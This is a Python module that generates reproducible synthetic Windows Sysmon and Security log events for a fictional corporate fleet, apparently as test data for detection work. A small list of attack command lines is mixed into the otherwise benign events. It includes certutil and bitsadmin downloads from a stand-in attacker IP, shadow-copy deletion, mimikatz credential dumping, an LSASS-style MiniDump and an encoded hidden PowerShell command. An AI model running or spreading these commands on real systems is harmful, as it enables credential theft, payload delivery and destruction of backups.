# ruff: noqa: E501 - command lines are as long as they are
"""Windows events in Sysmon's and the security log's own terms, made up but shaped like a real fleet's.

The same seed gives the same events.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator

__all__ = ["Fields", "events"]

Fields = dict[str, str | int]

_SYSTEM = "C:\\Windows\\System32"
_PROGRAMS = "C:\\Program Files"
_USERS = ["NT AUTHORITY\\SYSTEM", "NT AUTHORITY\\NETWORK SERVICE", *(f"CORP\\user{n:03}" for n in range(120))]
_HOSTS = [f"ws-{n:03}.corp.example" for n in range(200)]

# image, original file name, parent image, command line; {} is filled anew for a fresh command line.
_STARTS = [
    (f"{_SYSTEM}\\svchost.exe", "svchost.exe", f"{_SYSTEM}\\services.exe", "{image} -k netsvcs -p -s {word}"),
    (f"{_SYSTEM}\\conhost.exe", "CONHOST.EXE", f"{_SYSTEM}\\cmd.exe", "\\??\\{image} 0xffffffff -ForceV1 {number}"),
    (f"{_SYSTEM}\\cmd.exe", "Cmd.Exe", "C:\\Windows\\explorer.exe", '{image} /c "C:\\Tools\\{word}.bat {number} {path}"'),
    (f"{_SYSTEM}\\cmd.exe", "Cmd.Exe", f"{_PROGRAMS}\\nodejs\\node.exe", "{image} /d /s /c npm run {word} -- {path}"),
    (
        f"{_SYSTEM}\\WindowsPowerShell\\v1.0\\powershell.exe",
        "PowerShell.EXE",
        f"{_SYSTEM}\\svchost.exe",
        'powershell.exe -NoProfile -ExecutionPolicy Bypass -File "C:\\ProgramData\\{word}\\{number}.ps1" -Out {path}',
    ),
    (
        f"{_SYSTEM}\\WindowsPowerShell\\v1.0\\powershell.exe",
        "PowerShell.EXE",
        "C:\\Windows\\explorer.exe",
        "powershell.exe Get-ChildItem {path} -Recurse | Where-Object Length -gt {number}",
    ),
    (f"{_SYSTEM}\\rundll32.exe", "RUNDLL32.EXE", f"{_SYSTEM}\\svchost.exe", "rundll32.exe shell32.dll,{word} {path}"),
    (f"{_SYSTEM}\\msiexec.exe", "msiexec.exe", f"{_SYSTEM}\\services.exe", "{image} /i {path}.msi /qn LOG={number}"),
    (f"{_SYSTEM}\\reg.exe", "reg.exe", f"{_SYSTEM}\\cmd.exe", "reg query HKLM\\Software\\{word} /v {number}"),
    (f"{_SYSTEM}\\net.exe", "net.exe", f"{_SYSTEM}\\cmd.exe", "net use X: \\\\files{number}\\{word}"),
    (f"{_SYSTEM}\\schtasks.exe", "schtasks.exe", f"{_SYSTEM}\\cmd.exe", "schtasks /query /tn {word}{number} /fo csv"),
    (f"{_SYSTEM}\\wbem\\WmiPrvSE.exe", "Wmiprvse.exe", f"{_SYSTEM}\\svchost.exe", "{image} -secured -Embedding {number}"),
    (f"{_SYSTEM}\\backgroundTaskHost.exe", "backgroundTaskHost.exe", f"{_SYSTEM}\\svchost.exe", "{image} -ServerName:{word}.AppX{number}.mca"),
    (
        f"{_PROGRAMS}\\Google\\Chrome\\Application\\chrome.exe",
        "chrome.exe",
        "C:\\Windows\\explorer.exe",
        '"{image}" --type=renderer --lang=en-US --field-trial-handle={number},{number} --renderer-client-id={number}',
    ),
    (
        f"{_PROGRAMS}\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
        "WinWord.exe",
        "C:\\Windows\\explorer.exe",
        '"{image}" /n "{path}.docx" /o ""',
    ),
    (f"{_PROGRAMS}\\Git\\cmd\\git.exe", "git.exe", f"{_PROGRAMS}\\Git\\bin\\bash.exe", "git log --format={word} -n {number} -- {path}"),
    (f"{_PROGRAMS}\\Python311\\python.exe", "python.exe", f"{_SYSTEM}\\cmd.exe", "python.exe -m {word} --jobs {number} {path}"),
    (f"{_PROGRAMS}\\Java\\bin\\java.exe", "java.exe", f"{_SYSTEM}\\services.exe", '"{image}" -Xmx{number}m -cp {path}.jar com.example.{word}'),
    ("C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe", "csc.exe", f"{_PROGRAMS}\\IIS\\w3wp.exe", '"{image}" /noconfig @"{path}.cmdline"'),
    (f"{_SYSTEM}\\taskhostw.exe", "taskhostw.exe", f"{_SYSTEM}\\svchost.exe", "taskhostw.exe {word} {number}"),
]  # fmt: skip
_ATTACKS = [
    (
        f"{_SYSTEM}\\certutil.exe",
        "CertUtil.exe",
        "certutil -urlcache -split -f http://203.0.113.7/{word}.exe {path}.exe",
    ),
    (f"{_SYSTEM}\\whoami.exe", "whoami.exe", "whoami /all"),
    (f"{_SYSTEM}\\vssadmin.exe", "VSSADMIN.EXE", "vssadmin delete shadows /all /quiet"),
    ("C:\\Users\\Public\\m.exe", "mimikatz.exe", "m.exe sekurlsa::logonpasswords exit"),
    (
        f"{_SYSTEM}\\WindowsPowerShell\\v1.0\\powershell.exe",
        "PowerShell.EXE",
        "powershell -w hidden -enc JABzAD0ATgBlAHcA{word}",
    ),
    (f"{_SYSTEM}\\rundll32.exe", "RUNDLL32.EXE", "rundll32.exe comsvcs.dll, MiniDump {number} {path}.dmp full"),
    (f"{_SYSTEM}\\bitsadmin.exe", "bitsadmin.exe", "bitsadmin /transfer {word} http://203.0.113.7/a {path}.exe"),
    (f"{_SYSTEM}\\net1.exe", "net1.exe", 'net1 group "domain admins" /domain'),
]
_ATTACK_ONE_IN = 400
_POOL = 400  # command lines that come again and again


def events(count: int, fresh: float, seed: int = 7) -> Iterator[Fields]:
    """So many events; that share of the process starts has a command line that never came before."""
    chance = random.Random(seed)  # noqa: S311 - reproducible events, no secrets
    pool = [_started(chance) for _ in range(_POOL)]
    kinds: list[Callable[[random.Random], Fields]] = [_file, _registry, _image_load, _network, _dns, _logon]
    for _ in range(count):
        if chance.random() < 1 / _ATTACK_ONE_IN:
            special = _attack(chance)
        elif chance.random() < 0.7:
            special = _started(chance) if chance.random() < fresh else pool[chance.randrange(_POOL)]
        else:
            special = chance.choice(kinds)(chance)
        yield _about(chance) | special


def _about(chance: random.Random) -> Fields:
    return {
        "Computer": chance.choice(_HOSTS),
        "User": chance.choice(_USERS),
        "ProcessId": chance.randrange(4, 30_000, 4),
        "UtcTime": f"2026-11-{chance.randrange(1, 29):02} {chance.randrange(24):02}:{chance.randrange(60):02}:07.{chance.randrange(1000):03}",
    }


def _filled(chance: random.Random, pattern: str, image: str) -> str:
    text = pattern.replace("{image}", image)
    while "{number}" in text:
        text = text.replace("{number}", str(chance.randrange(10**7)), 1)
    text = text.replace("{word}", _word(chance))
    return text.replace("{path}", _path(chance)) if "{path}" in text else text


def _word(chance: random.Random) -> str:
    return "".join(chance.choices("abcdefghijklmnopqrstuvwxyz", k=chance.randrange(5, 12)))


def _path(chance: random.Random) -> str:
    place = chance.choice(["AppData\\Local\\Temp", "Documents", "source\\repos", "Downloads"])
    return f"C:\\Users\\user{chance.randrange(120):03}\\{place}\\{_word(chance)}-{chance.getrandbits(32):08x}"


def _hashes(image: str) -> str:
    chance = random.Random(image)  # noqa: S311 - a file's hash stays the same
    return f"MD5={chance.getrandbits(128):032X},IMPHASH={chance.getrandbits(128):032X}"


def _started(chance: random.Random) -> Fields:
    image, name, parent, pattern = chance.choice(_STARTS)
    return _process(chance, image, name, parent, _filled(chance, pattern, image))


def _attack(chance: random.Random) -> Fields:
    image, name, pattern = chance.choice(_ATTACKS)
    return _process(chance, image, name, f"{_SYSTEM}\\cmd.exe", _filled(chance, pattern, image))


def _process(chance: random.Random, image: str, name: str, parent: str, command_line: str) -> Fields:
    return {
        "EventID": 1,
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "Image": image,
        "CommandLine": command_line,
        "OriginalFileName": name,
        "ParentImage": parent,
        "ParentCommandLine": f'"{parent}"' if chance.random() < 0.5 else f"{parent} -k {_word(chance)}",
        "IntegrityLevel": chance.choice(["System", "Medium", "High"]),
        "Hashes": _hashes(image),
    }


def _of(event_id: int, image: str) -> Fields:
    return {"EventID": event_id, "Channel": "Microsoft-Windows-Sysmon/Operational", "Image": image}


def _image(chance: random.Random) -> str:
    return chance.choice(_STARTS)[0]


def _file(chance: random.Random) -> Fields:
    suffix = chance.choice([".tmp", ".log", ".dll", ".docx", ".json", ".exe"])
    return _of(11, _image(chance)) | {"TargetFilename": _path(chance) + suffix}


def _registry(chance: random.Random) -> Fields:
    key = f"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\{_word(chance)}\\{chance.getrandbits(16)}"
    details = chance.choice(["DWORD (0x00000001)", "Binary Data", _path(chance)])
    return _of(13, _image(chance)) | {"EventType": "SetValue", "TargetObject": key, "Details": details}


def _image_load(chance: random.Random) -> Fields:
    name = chance.choice(["kernel32", "ntdll", "clr", "dbghelp", "samlib", "vaultcli", "combase", "amsi"])
    signed = chance.choice(["true", "true", "false"])
    loaded = f"{_SYSTEM}\\{name}.dll"
    return _of(7, _image(chance)) | {"ImageLoaded": loaded, "Signed": signed, "Hashes": _hashes(loaded)}


def _network(chance: random.Random) -> Fields:
    address = f"{chance.randrange(1, 224)}.{chance.randrange(256)}.{chance.randrange(256)}.{chance.randrange(1, 255)}"
    return _of(3, _image(chance)) | {
        "Initiated": "true",
        "Protocol": "tcp",
        "SourcePort": chance.randrange(49152, 65535),
        "DestinationIp": address,
        "DestinationPort": chance.choice([80, 443, 445, 3389, 8080, 53]),
        "DestinationHostname": f"{_word(chance)}.example.net",
    }


def _dns(chance: random.Random) -> Fields:
    return _of(22, _image(chance)) | {"QueryName": f"{_word(chance)}.example.{chance.choice(['com', 'net', 'org'])}"}


def _logon(chance: random.Random) -> Fields:
    return {
        "EventID": chance.choice([4624, 4624, 4625, 4672, 4688]),
        "Channel": "Security",
        "Provider_Name": "Microsoft-Windows-Security-Auditing",
        "LogonType": chance.choice([2, 3, 5, 7, 10]),
        "TargetUserName": f"user{chance.randrange(120):03}",
        "IpAddress": f"10.{chance.randrange(256)}.{chance.randrange(256)}.{chance.randrange(1, 255)}",
        "AuthenticationPackageName": chance.choice(["Kerberos", "NTLM", "Negotiate"]),
    }
